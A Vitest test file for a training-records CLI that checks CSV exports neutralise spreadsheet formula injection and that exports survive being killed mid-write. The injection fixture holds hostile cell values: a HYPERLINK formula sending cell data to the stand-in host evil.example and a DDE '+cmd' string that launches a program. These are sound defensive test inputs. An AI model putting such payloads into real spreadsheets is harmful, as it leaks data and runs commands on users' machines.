import { watch, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, spawnCli, tempDir } from './cli';

const ORG_HEADER = 'open_id,user_id,name,unit_id,unit_name,parent_unit_id,leader_open_id,level,roles,unit_chat_id';
const PEOPLE = 5_000;
const TRAINING = 50_000;

/** An organ with five divisions and 5,000 people, and 50,000 training records for the year. */
function seedFiles(dir: string) {
  const org = [ORG_HEADER, 'ou_head,head,局长,U0,某局,,,正职,staff;supervisor,'];
  for (let i = 0; i < PEOPLE; i++) org.push(`ou_${i},u${i},人员${i},U${1 + (i % 5)},第${1 + (i % 5)}处,U0,ou_head,一般干部,staff,`);
  const training = ['open_id,date,title,kind,hours,required'];
  for (let i = 0; i < TRAINING; i++) training.push(`ou_${i % PEOPLE},2026-03-02,课程 ${i},online,1.5,0`);
  writeFileSync(join(dir, 'org.csv'), org.join('\n'));
  writeFileSync(join(dir, 'training.csv'), training.join('\n'));
}

describe('exports', () => {
  it('neutralises formulas in CSV written to stdout', async () => {
    const dir = tempDir('guard');
    const env = { DATABASE_URL: `file:${join(dir, 'pingshi.db')}` };
    const org = [
      ORG_HEADER,
      `ou_1,u1,"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",U1,"+cmd|' /C calc'!A0",,,一般干部,staff,`,
      'ou_2,u2,@SUM(1+1),U1,"+cmd|\' /C calc\'!A0",,,一般干部,staff,',
      'ou_3,u3,-2+3,U1,"+cmd|\' /C calc\'!A0",,,一般干部,staff,',
    ].join('\n');
    writeFileSync(join(dir, 'org.csv'), org);
    expect((await cli(['import', 'org', join(dir, 'org.csv')], env)).code).toBe(0);

    const run = await cli(['export', 'credits', '--period', '2026'], env);
    expect(run.code).toBe(0);
    const lines = run.out.trim().split('\n');
    expect(lines).toHaveLength(4);
    // target_hours is the two requirements' sum (集中培训 90 + 网络学习 50, issue 10); offline_hours and requirements follow.
    expect(lines[1]).toBe(`2026,'+cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",ou_1,0,0,0,140,0,0,集中培训 0/90；网络学习 0/50`);
    expect(lines[2]).toContain(`,'@SUM(1+1),`);
    expect(lines[3]).toContain(`,'-2+3,`);
    // No field of any data line starts with a character a spreadsheet would evaluate.
    for (const line of lines.slice(1)) expect(line.split(',').filter((f) => /^"?[=+\-@\t\r]/.test(f))).toEqual([]);
  });

  describe('killed mid-write', () => {
    let dir: string;
    let env: Record<string, string>;
    beforeAll(async () => {
      dir = tempDir('atomic');
      env = { DATABASE_URL: `file:${join(dir, 'pingshi.db')}` };
      seedFiles(dir);
      expect((await cli(['import', 'org', join(dir, 'org.csv')], env)).code).toBe(0);
      expect((await cli(['import', 'training', join(dir, 'training.csv')], env)).code).toBe(0);
    }, 180_000);

    it.each(['csv', 'xlsx'])('leaves the previous %s export intact', async (format) => {
      const outDir = tempDir(`out-${format}`);
      const target = join(outDir, `credits.${format}`);
      const previous = `the export of last week, kept whole (${format})\n`;
      writeFileSync(target, previous);

      // The kill lands the moment the export touches the directory: a new temporary file, or the
      // target itself if it were written in place.
      const run = spawnCli(['export', 'credits', '--period', '2026', '--format', format, '--out', target], env);
      const watcher = watch(outDir, () => run.child.kill('SIGKILL'));
      const result = await run.exited;
      watcher.close();

      expect(result.signal).toBe('SIGKILL');
      expect(readFileSync(target, 'utf8')).toBe(previous);
      expect(readdirSync(outDir).filter((f) => f.endsWith('.tmp'))).toHaveLength(1);

      // Run to the end, the export replaces the file whole.
      const done = await spawnCli(['export', 'credits', '--period', '2026', '--format', format, '--out', target], env).exited;
      expect(done.code).toBe(0);
      expect(done.stderr).toContain(`已导出 ${PEOPLE + 1} 行`);
      expect(readdirSync(outDir).filter((f) => !f.endsWith('.tmp'))).toEqual([`credits.${format}`]);
    });
  });
});
